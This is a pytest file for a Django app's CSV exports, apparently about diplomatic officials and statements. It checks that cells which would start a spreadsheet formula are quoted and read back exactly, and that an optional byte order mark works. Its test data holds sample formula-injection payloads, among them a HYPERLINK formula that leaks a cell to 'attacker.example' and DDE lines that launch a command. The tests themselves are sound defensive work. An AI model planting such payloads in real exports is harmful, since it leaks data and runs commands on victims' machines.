"""CSV exports are safe to open in a spreadsheet: no cell is read as a formula, and every cell
reads back to its value; ``bom=true`` adds the byte order mark by which Excel knows UTF-8."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from server.diplomacy import exchange, services
from server.diplomacy.csv_cells import read_back, spreadsheet_safe
from server.diplomacy.models import Official, Statement
from tests import factories
from tests.server.writing import API, PROBLEM

pytestmark = pytest.mark.django_db

# Each starts a formula in Excel, LibreOffice or Google Sheets (the last: a quote of our own).
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


def _csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(body)))


def _export(resource: str, **params) -> list[dict[str, str]]:
    return _csv(Client().get(f"{API}/{resource}/", {"format": "csv", **params}))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_starts_a_formula_is_written_behind_a_quote(formula):
    official = factories.official(notes=formula)
    # Names hold no tab or carriage return, but one stored before the rule still exports safely.
    Official.objects.filter(pk=official.pk).update(name=formula, aliases=[formula])
    (row,) = [row for row in _export("officials", country="TV") if row["id"] == str(official.pk)]
    for column in ("name", "notes", "aliases"):
        assert row[column] == "'" + formula, column
        assert read_back(row[column]) == formula


@pytest.mark.parametrize("resource", ["officials", "sources", "contacts", "statements"])
def test_no_cell_of_any_export_starts_a_formula(resource):
    speaker = factories.official(name="=cmd|' /C calc'!A0", notes="@SUM(1)", aliases=["-1"])
    source = factories.source(title="+HYPERLINK(1)", author="=A1", publisher="-x", notes="@x")
    contact = factories.contact(
        officials=(speaker,), title="=evil()", location="@here", summary="+1", occasion="-x"
    )
    factories.statement(speaker=speaker, contact=contact, cited=source, text="=WEBSERVICE(1)")
    rows = _export(resource)
    json_rows = {
        item["id"]: item
        for item in Client().get(f"{API}/{resource}/", {"limit": 200}).json()["results"]
    }
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        shown = json_rows.get(int(row["id"]))
        for column in ("name", "title", "text", "notes", "summary", "author"):
            if shown is not None and column in row and isinstance(shown.get(column), str):
                assert read_back(row[column]) == shown[column]


def test_dates_numbers_and_plain_text_are_written_as_they_are():
    statement = factories.statement(text="Text that starts plainly", said="2024-07")
    (row,) = [row for row in _export("statements", said_after="2024-07", said_before="2024-07")
              if row["id"] == str(statement.pk)]  # fmt: skip
    assert row["said"] == "2024-07"  # a partial date starts with its year, never with "-"
    assert row["version"] == "1"
    assert row["text"] == "Text that starts plainly"
    assert row["created_at"][:2] == "20"


def test_the_admins_csv_export_writes_the_same_safe_cells():
    official = factories.official(notes="=HYPERLINK(1)", aliases=["@SUM(1)"])
    text = exchange.export_csv(Official, [official])
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["notes"] == "'=HYPERLINK(1)"
    assert json.loads(row["aliases"]) == ["@SUM(1)"]  # JSON, which starts with [
    assert row["country"] == "TV"


def test_the_rule_reads_back_exactly():
    for text in [*FORMULAS, "plain", "", "'", "''", "2024-07", "a=b"]:
        assert read_back(spreadsheet_safe(text)) == text
    assert spreadsheet_safe(5) == 5


# -- the byte order mark -----------------------------------------------------------------------


def _raw(**params) -> bytes:
    response = Client().get(f"{API}/statements/", params)
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content)


def test_bom_true_starts_the_csv_with_a_utf8_byte_order_mark():
    with_mark = _raw(format="csv", bom="true")
    without = _raw(format="csv")
    assert with_mark.startswith(b"\xef\xbb\xbfid,url,")
    assert with_mark[3:] == without
    assert without.startswith(b"id,")
    assert _raw(format="csv", bom="false") == without
    rows = list(csv.DictReader(io.StringIO(with_mark.decode("utf-8-sig"))))
    assert [row["id"] for row in rows] == [row["id"] for row in _export("statements")]


def test_bom_by_accept_header_too():
    response = Client().get(f"{API}/statements/", {"bom": "true"}, HTTP_ACCEPT="text/csv")
    assert b"".join(response.streaming_content).startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(
    "params",
    [
        {"format": "csv", "bom": "yes"},
        {"format": "csv", "bom": "1"},
        {"format": "csv", "bom": ""},
        {"format": "csv", "bom": "TRUE"},
        {"format": "csv", "bom": ["true", "true"]},
        {"format": "ndjson", "bom": "yes"},
        {"bom": "on"},
    ],
)
def test_a_malformed_bom_is_a_400_naming_it(params):
    before = Statement.objects.count()
    response = Client().get(f"{API}/statements/", params)
    assert response.status_code == 400
    assert response["Content-Type"] == PROBLEM
    assert list(response.json()["errors"]) == ["bom"]
    assert Statement.objects.count() == before


def test_other_formats_have_no_byte_order_mark():
    ndjson = _raw(format="ndjson", bom="true")
    assert not ndjson.startswith(b"\xef\xbb\xbf")
    assert ndjson == _raw(format="ndjson")
    response = Client().get(f"{API}/statements/", {"bom": "true"})
    assert response.status_code == 200
    assert not response.content.startswith(b"\xef\xbb\xbf")


def test_bom_is_in_the_schema_of_every_list():
    from tests.security.conftest import SCHEMA

    for path in ("officials", "sources", "contacts", "statements"):
        parameters = SCHEMA["paths"][f"/api/v1/{path}/"]["get"]["parameters"]
        (bom,) = [p for p in parameters if p["name"] == "bom"]
        assert bom["schema"] == {"type": "boolean", "default": False}


def test_a_record_written_through_the_services_reads_back_from_the_csv():
    notes = "-minus first, then\ttab"
    official = services.record_create(
        Official, {"slug": "t-csv", "name": "Csv Test", "country": "TV", "notes": notes}
    )
    (row,) = [row for row in _export("officials") if row["id"] == str(official.pk)]
    assert read_back(row["notes"]) == notes
